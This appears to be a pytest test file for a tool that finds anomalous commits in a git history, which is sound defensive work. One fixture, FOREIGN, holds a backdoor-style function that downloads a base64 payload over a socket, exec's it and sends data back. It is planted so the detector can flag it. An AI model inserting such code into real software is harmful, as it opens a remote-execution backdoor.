"""What stands out in a history that is the same for a long time, and what is said of it."""

from __future__ import annotations

from pathlib import Path

import pytest

from c2llm.analysis.history.judge import HistoryReport, unusual_commits
from c2llm.errors import UsageError
from tests.analysis.history.histories import DAY, MONDAY, Step, history, shop
from tests.codebase.revisions.test_uncommitted import git

STEPS = 110
FOREIGN = (
    "def open_socket(host, port):\n    import socket, base64\n"
    "    connection = socket.create_connection((host, port))\n"
    "    payload = base64.b64decode(connection.recv(4096))\n"
    "    interpreter = compile(payload, 'remote', 'exec')\n    exec(interpreter)\n"
    "    connection.sendall(base64.b64encode(interpreter.co_code))\n"
)
ANOMALIES = {
    "operator": (shop(STEPS, sign="-"), "operator"),
    "limit": (shop(STEPS, check=False), "check"),
    "call": (shop(STEPS).replace("    audit(amount)\n", ""), "call"),
    "foreign": (shop(STEPS, more=FOREIGN), "names"),
}


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("C2LLM_HOME", str(tmp_path / "home"))


@pytest.fixture(scope="module")
def quiet(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A shop that gets one more item a day."""
    root = tmp_path_factory.mktemp("quiet") / "shop"
    history(root, [Step({"shop.py": shop(number)}, f"Item {number}") for number in range(STEPS)])
    return root


def after(quiet: Path, folder: Path, step: Step) -> tuple[Path, str]:
    """The same with one commit more."""
    root = folder / "shop"
    git(quiet, "clone", "-q", str(quiet), str(root))
    when = f"{MONDAY + STEPS * DAY} +0000"
    for path, text in step.files.items():
        assert isinstance(text, str)
        (root / path).write_text(text)
    git(root, "add", "-A")
    git(
        root,
        "commit",
        "-qm",
        step.subject,
        f"--date={when}",
        f"--author={step.name} <{step.email}>",
    )
    return root, git(root, "rev-parse", "HEAD").strip()


@pytest.mark.parametrize("name", ANOMALIES)
def test_an_anomaly_is_found_and_told(quiet: Path, tmp_path: Path, name: str):
    text, word = ANOMALIES[name]
    root, planted = after(quiet, tmp_path, Step({"shop.py": text}, "Tidy up"))
    report = unusual_commits(root)
    first = report.judgements[0]
    assert first.commit.id == planted
    assert first.is_alarm
    assert first.p_value is not None
    assert first.p_value <= 0.01
    assert any(word in reason for reason in first.reasons), first.reasons
    if name == "foreign":
        (names,) = [reason for reason in first.reasons if "never seen" in reason]
        assert "`b64decode`" in names
        assert "`price`" not in names
    assert any(f"of {first.earlier} earlier commits" in reason for reason in first.reasons)


def test_one_more_of_the_same_is_no_alarm(quiet: Path, tmp_path: Path):
    root, planted = after(quiet, tmp_path, Step({"shop.py": shop(STEPS)}))
    report = unusual_commits(root, since="HEAD^")
    (only,) = report.judgements
    assert only.commit.id == planted
    assert not only.is_alarm
    assert report.alarms == 0


def test_a_new_file_is_no_alarm(quiet: Path, tmp_path: Path):
    root, _ = after(quiet, tmp_path, Step({"remote.py": FOREIGN}))
    report = unusual_commits(root, since="HEAD^")
    assert report.judgements == ()
    assert (report.cannot_tell, report.alarms) == (1, 0)


def test_comments_and_layout_are_no_change(quiet: Path, tmp_path: Path):
    text = shop(STEPS - 1).replace(
        "    audit(amount)\n", "    audit(\n        amount\n    )  # x\n"
    )
    root, _ = after(quiet, tmp_path, Step({"shop.py": text}))
    report = unusual_commits(root, since="HEAD^")
    assert (report.no_code, report.judgements) == (1, ())


def test_a_short_history_cannot_tell(tmp_path: Path):
    root = tmp_path / "shop"
    history(root, [Step({"shop.py": shop(number)}) for number in range(20)])
    report = unusual_commits(root)
    assert report.alarms == 0
    assert all(one.p_value is None for one in report.judgements)
    assert any("no alarm can be told" in sentence for sentence in report.notes)
    assert report.cannot_tell == 6  # the first, and the five that make a past


def test_a_file_is_judged_by_its_own_commits(quiet: Path, tmp_path: Path):
    root, planted = after(quiet, tmp_path, Step({"shop.py": ANOMALIES["limit"][0], "b.py": "x\n"}))
    report = unusual_commits(root / "shop.py")
    assert report.judgements[0].commit.id == planted
    assert {one.path for one in report.judgements} == {"shop.py"}


def test_a_past_is_kept_over_a_rename(tmp_path: Path):
    root = tmp_path / "shop"
    steps = [Step({"old.py": shop(number)}) for number in range(8)]
    steps += [Step({}, renamed={"old.py": "new.py"})]
    steps += [Step({"new.py": shop(number)}) for number in range(8, 12)]
    history(root, steps)
    for path in (root, root / "new.py"):
        earlier = [one.earlier for one in unusual_commits(path).judgements]
        assert max(earlier) == 10


def test_the_second_time_says_the_same(quiet: Path):
    first, second = unusual_commits(quiet), unusual_commits(quiet)
    assert _said(first) == _said(second)


def test_what_is_wrong_is_said(quiet: Path, tmp_path: Path):
    with pytest.raises(UsageError):
        unusual_commits(quiet, since="nosuch")
    with pytest.raises(UsageError):
        unusual_commits(tmp_path)


def _said(report: HistoryReport) -> list[object]:
    return [(one.commit.id, one.p_value, one.score, one.reasons) for one in report.judgements]
